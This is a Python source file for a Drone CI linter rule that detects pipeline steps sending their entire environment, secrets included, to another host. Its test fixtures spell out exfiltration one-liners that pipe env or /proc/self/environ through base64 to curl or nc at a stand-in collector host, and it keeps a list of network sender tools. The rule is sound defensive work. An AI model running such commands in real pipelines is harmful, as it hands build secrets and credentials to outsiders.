"""A step's whole environment sent to another host."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from drone_lint.api import CWE, OWASP, Finding, Jsonnet, Pipeline, Rule, Severity, Step, Trigger
from drone_lint_rules.shell import script_of

if TYPE_CHECKING:
    from drone_lint_rules.shell.syntax import SimpleCommand

_SENDERS = ("curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "http", "https", "xh")


class EnvironmentSentAway(Rule):
    """A command sends all variables of a step to another host.

    `env | base64 | curl -d @- https://...` is how secrets are stolen from builds: the environment holds every secret that the step asks for, and the clone's credentials in private
    repositories. Encoding hides them from Drone's masking, which looks for the exact text in the log only.

    It is an error in a step that asks for a secret, and a warning in others.

    Remove the command, and replace the secrets that the step had: they have to be considered known to others.
    """

    name = "environment-sent-away"
    severity = Severity.ERROR
    why = "the receiver gets every secret of the step, and Drone does not mask what is sent"
    help = "remove the command, and replace the secrets that the step had"
    references = (OWASP.CICD_SEC_4, CWE(200))
    trigger = Trigger(commands=("env", "set", "export", "declare"))

    bad = (
        """
        kind: pipeline
        type: docker
        name: default
        steps:
        - name: build
          image: alpine:3.20
          environment: {TOKEN: {from_secret: token}}
          commands:
          - env | base64 -w0 | curl -d @- https://collector.example.com  # <- environment-sent-away
          - curl "https://collector.example.com/?x=$(printenv | base64)"  # <- environment-sent-away
        """,
        Jsonnet("""
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'a', image: 'alpine:3.20', commands: [
            'cat /proc/self/environ | nc collector.example.com 9000',  // <- environment-sent-away
          ] },
        ] }
        """),
    )
    good = (
        """
        kind: pipeline
        type: docker
        name: default
        steps:
        - name: build
          image: alpine:3.20
          commands: [env, env | sort, env A=b curl https://example.com, "env | grep VERSION > .env", curl https://example.com, "env | grep ^CI_COMMIT | curl -d @- https://example.com"]
        """,
    )

    def check_step(self, step: Step, pipeline: Pipeline) -> Iterator[Finding]:
        script = script_of(step)
        if not script.mentions(*_SENDERS):
            return
        for command in script.commands:
            if _shows_all(command) and _is_sent(command):
                secrets = f", with the secret `{step.secrets[0][0]}`" if step.secrets else ""
                yield self.finding(
                    script.place(command.start, command.end),
                    f"the whole environment of {step.title} is sent to another host{secrets}",
                    severity=Severity.ERROR if step.secrets else Severity.WARNING,
                )


def _shows_all(command: SimpleCommand) -> bool:
    words = [word.text for word in command.arguments]
    if command.program in ("env", "printenv"):
        return all(word in ("-0", "--null") for word in words)
    if command.program in ("set", "export", "declare"):
        return words in ([], ["-p"], ["-x"])
    return command.program in ("cat", "base64", "tr", "strings", "gzip") and any(
        word.endswith("/environ") and word.startswith("/proc/") for word in words
    )


def _is_sent(command: SimpleCommand) -> bool:
    """Whether a sender gets the output, by a pipe or as an argument; not where `grep` picks lines of it."""
    later = [other for stage in command.feeds for other in stage.commands]
    if any(other.program in ("grep", "egrep", "rg", "awk", "sed", "cut") for other in later):
        return False
    if any(other.program in _SENDERS for other in later):
        return True
    outer = command.captured.outer if command.captured is not None else None
    return outer is not None and any(other.program in _SENDERS for other in outer.commands)
